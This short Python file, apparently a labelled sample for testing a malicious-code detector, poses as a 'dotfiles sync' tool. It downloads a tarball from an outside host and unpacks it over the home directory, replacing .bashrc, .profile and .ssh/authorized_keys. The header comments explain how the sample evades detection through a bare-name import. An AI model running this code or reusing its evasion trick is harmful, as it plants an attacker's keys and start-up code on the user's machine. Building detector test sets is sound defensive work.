# Evasion: a "dotfiles sync" tool that downloads a tarball and unpacks it
# straight into the home directory, so its members (.bashrc, .profile,
# .ssh/authorized_keys) replace the user's start-up files and keys.
# Hides as: unpack_archive imported by its bare name (from shutil import
# unpack_archive), so no shutil.unpack_archive attribute call appears.
import os
import tempfile
import urllib.request
from shutil import unpack_archive

DOTFILES = "https://dotfiles.sync-home.dev/latest.tar.gz"


def fetch():
    fd, path = tempfile.mkstemp(suffix=".tar.gz")
    os.close(fd)
    urllib.request.urlretrieve(DOTFILES, path)
    return path


def install(archive):
    home = os.path.expanduser("~")
    unpack_archive(archive, home, "gztar")
    os.remove(archive)
    print("dotfiles installed into", home)


if __name__ == "__main__":
    install(fetch())
